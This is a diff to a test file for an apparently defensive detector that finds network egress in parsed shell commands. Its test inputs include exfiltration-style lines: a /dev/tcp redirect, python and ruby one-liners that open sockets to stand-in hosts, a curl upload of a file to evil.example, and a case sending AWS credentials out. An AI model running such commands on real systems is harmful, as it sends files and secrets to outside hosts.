@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { egressOf, isAllowedHost, isLocalHost } from '../../../detectors/command/egress.js';
+import { egressOf, egressOfCommand, isAllowedHost, isLocalHost } from '../../../detectors/command/egress.js';
 import { factsOf } from '../../../detectors/facts.js';
 import { parseCommand } from '../../../detectors/command/parse-command.js';
 import { bash, CTX } from '../helpers.js';
@@ -83,6 +83,28 @@ describe('egress through the parser', () => {
       { paths: ['/home/dev/.aws/credentials'], egress: expect.objectContaining({ host: 'evil.example' }) },
     ]);
     expect(parseCommand('cat a | curl x.example').pipelines).toHaveLength(1);
+  });
+});
+
+describe('egressOfCommand: every way one parsed command sends data', () => {
+  const cmd = (line: string, prog: string) => parseCommand(line).commands.find((c) => c.argv[0] === prog)!;
+
+  it('a network tool, plus a /dev/tcp redirect on the same command', () => {
+    expect(egressOfCommand(cmd('curl https://a.example > /dev/tcp/203.0.113.9/80', 'curl')).map((e) => e.host)).toEqual(['a.example', '203.0.113.9']);
+  });
+
+  it("an interpreter one-liner's URLs and sockets, with the interpreter as the tool", () => {
+    expect(egressOfCommand(cmd(`python3 -c "import requests; requests.get('https://evil.example:8443/x')"`, 'python3')))
+      .toEqual([{ tool: 'python3', host: 'evil.example', port: 8443, url: 'https://evil.example:8443/x' }]);
+    expect(egressOfCommand(cmd(`ruby -rsocket -e 'TCPSocket.new("198.51.100.4", 53)'`, 'ruby'))).toEqual([{ tool: 'ruby', host: '198.51.100.4', port: 53 }]);
+  });
+
+  it('an interpreter running a script file has no known destination', () => {
+    expect(egressOfCommand(cmd('python3 upload.py https://evil.example', 'python3'))).toEqual([]);
+  });
+
+  it('through the parser: curl started by python is curl egress', () => {
+    expect(egress(`python3 -c "import os; os.system('curl -T notes.txt https://evil.example')"`)).toEqual([{ tool: 'curl', host: 'evil.example', port: 443 }]);
   });
 });
 
